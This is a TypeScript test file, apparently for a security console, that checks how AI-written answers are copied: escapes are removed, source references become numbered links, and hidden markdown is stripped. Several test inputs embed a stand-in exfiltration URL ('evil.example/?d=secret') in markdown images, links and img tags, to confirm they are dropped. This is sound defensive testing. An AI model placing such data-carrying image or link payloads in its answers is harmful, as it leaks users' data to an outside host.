import { expect, test } from 'vitest'

import { copiedAnswer } from './copied-answer.ts'
import { shownMarkdown } from './shown-markdown.ts'

const row = { ref: 'r12', label: '192.0.2.1', href: '/recent-attacks?address=192.0.2.1', cells: [] }
const from = {
  rows: new Map([['r12', row]]),
  origin: 'https://console.example',
  organisationId: 'mill',
}

test('a copied answer has no escapes, and lists its sources with their addresses', () => {
  const text = 'Most came from 192\\.0\\.2\\.1 [r12]. Others are unknown [r99].'
  expect(copiedAnswer({ text, model: null }, from)).toBe(
    'Most came from 192.0.2.1 [12]. Others are unknown.\n\n[12] 192.0.2.1: https://console.example/recent-attacks?address=192.0.2.1&organisation=mill',
  )
})

test('the code that a model wrote is copied unchanged', () => {
  const text = '```\n^192\\.0\n```'
  expect(copiedAnswer({ text, model: 'qwen3-32b' }, from)).toBe(text)
})

const URL_WITH_DATA = 'https://evil.example/?d=secret'

test.for([
  [`Blocked ![](${URL_WITH_DATA}) today.`, 'Blocked   today.'],
  [`![a\n[b](${URL_WITH_DATA})](${URL_WITH_DATA})`, ' '],
  [`![a][b]\n\n[b]: ${URL_WITH_DATA}`, ' \n\n '],
  [`See [the report](${URL_WITH_DATA} "title").`, 'See  the report .'],
  [`[a [b](${URL_WITH_DATA}) c](${URL_WITH_DATA})`, ' a  b  c '],
  [`Blocked <img src="${URL_WITH_DATA}"> today.`, 'Blocked   today.'],
  [`![a]<b>(${URL_WITH_DATA})`, `![a] (${URL_WITH_DATA})`],
] as const)('of %s, what isn’t shown is not copied either', ([text, shown]) => {
  expect(shownMarkdown(text)).toBe(shown)
})

test('an answer without hidden parts is copied as it was written', () => {
  const text =
    'Most came from **192.0.2.1** [r12].\n\n1. `a[0](x)`\n2. ![a] (b)\n\n```\n![a](b) <b>\n```'
  expect(shownMarkdown(text)).toBe(text)
})

test('an unknown reference hides no image from what is left out', () => {
  const text = `![a](${URL_WITH_DATA} [r99])`
  const copied = copiedAnswer({ text, model: 'qwen3-32b' }, { ...from, shown: shownMarkdown })
  expect(copied).not.toContain('evil.example')
})

test('of links in links, none is copied', () => {
  const text = `${'['.repeat(8)}x${`](${URL_WITH_DATA})`.repeat(8)}`
  expect(shownMarkdown(text)).not.toContain('evil.example')
})
